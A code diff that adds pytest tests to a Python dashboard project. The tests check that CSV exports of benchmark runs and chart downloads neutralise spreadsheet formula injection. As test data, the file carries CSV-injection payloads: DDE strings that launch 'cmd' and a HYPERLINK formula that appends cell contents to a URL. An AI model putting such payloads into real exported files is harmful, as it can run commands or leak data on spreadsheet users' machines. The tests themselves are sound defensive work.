@@ -1,13 +1,19 @@
-"""No string from a run file, a file name or a link can run script, fetch a URL or break a page."""
+"""No string from a run file, a file name or a link can run script, fetch a URL, break a page or run as a
+spreadsheet formula."""
+import csv
+import io
 import json
+import re
 import tomllib
 from pathlib import Path
 
+import pandas as pd
 import pytest
 from streamlit.testing.v1 import AppTest
 
 from attn_core import MECHANISMS, untrusted
 from attn_core.charts import export, scaling
+from attn_core.charts import insight as insight_charts
 from attn_core.engine import results
 from attn_core.benchmarks.dashboard import EXCEPTION, app_server, browser_page, wait_idle
 from attn_core.engine.config import DEFAULT_SWEEP
@@ -222,3 +228,60 @@ def test_link_values_keeps_what_each_widget_takes_and_names_the_rest_in_key_orde
     assert kept == {"steps": ["3"], "heads": [], "n": [], "mech": ["Softmax"]}  # "other" is no widget's: untouched
     assert [note.split("`")[1] for note in notes] == ["heads", "mech", "n"]
     assert "<b>" not in notes[1] and "7" in notes[2]
+
+
+# ---- CSV cells never run as spreadsheet formulas ----
+
+FORMULAS = ['=HYPERLINK("http://127.0.0.1:9/x?"&A1,"open")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
+            "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "'=1+1", "''+1", "plain, =2+2", "-1.5"]
+JSON_NUMBER = re.compile(r"-?[0-9.eE+-]+[\]}]*")  # a JSON number split off at a comma, e.g. ' -1.5]'
+
+
+def runs_as_formula(cell: str) -> bool:
+    """What a spreadsheet would evaluate (OWASP, "CSV Injection"): a cell starting with =, +, -, @, tab or CR, even
+    after spaces, unless it is a number."""
+    text = cell.lstrip(" ")
+    return text[:1] in ("=", "+", "-", "@", "\t", "\r") and not JSON_NUMBER.fullmatch(text)
+
+
+def spreadsheet_cells(data: bytes) -> list[str]:
+    """Every cell a spreadsheet makes of a CSV, comment lines included (split at their commas too)."""
+    return [cell for row in csv.reader(io.StringIO(data.decode("utf-8"), newline="")) for cell in row]
+
+
+def hostile_run(text: str) -> results.Run:
+    df = results_frame()
+    df["label"] = text
+    df["device"] = text
+    df["params"] = [json.dumps({**json.loads(p), "note": text}) for p in df["params"]]
+    df["reason"] = text
+    return results.Run(df, {"device_name": text, "list": [-1.5, text, 2.0], "-": -3}, {"note": text, "ns": [64]})
+
+
+@pytest.mark.parametrize("text", FORMULAS)
+def test_a_run_csv_runs_no_formula_and_loads_back_the_same(text):
+    run = hostile_run(text)
+    data = results.to_csv_bytes(run)
+    assert not [cell for cell in spreadsheet_cells(data) if runs_as_formula(cell)]
+    back = results.load_run(data)
+    assert back.env == run.env and back.config == run.config
+    for column in ("label", "device", "params", "reason"):
+        assert back.frame[column].tolist() == run.frame[column].tolist()
+    assert back.frame.equals(results.load_run(results.to_json_bytes(run)).frame)
+
+
+def test_csv_cell_marks_text_only_and_csv_text_takes_off_only_its_mark():
+    assert [untrusted.csv_cell(v) for v in ("=1", "'=1", "'x", "-1.5", -1.5, "")] == \
+        ["'=1", "''=1", "'x", "'-1.5", -1.5, ""]
+    assert [untrusted.csv_text(c) for c in ("'=1", "''=1", "'x", "'-1.5", "x'=")] == ["=1", "'=1", "'x", "-1.5", "x'="]
+
+
+def test_chart_downloads_run_no_formula_and_keep_numbers_numbers():
+    frame = pd.DataFrame({"mechanism": ["softmax"] * 2, "label": FORMULAS[:2], "n": [4, 8], "value": [-1.5, 2.0],
+                          "source": ["a · b"] * 2, "run": ["=cmd|' /C calc'!A0.json", "b.csv"], "machine": ["@x", "y"]})
+    chart = insight_charts.relative_chart(frame)
+    data = dict((fmt, make) for fmt, make, _, _ in insight_charts.downloads(chart, frame, "speed"))["CSV"]()
+    assert not [cell for cell in spreadsheet_cells(data) if runs_as_formula(cell)]
+    back = pd.read_csv(io.BytesIO(data))
+    assert back["value"].tolist() == [-1.5, 2.0] and back["value"].dtype == float  # numbers stay numbers
+    assert back["run"].tolist() == ["'=cmd|' /C calc'!A0.json", "b.csv"]
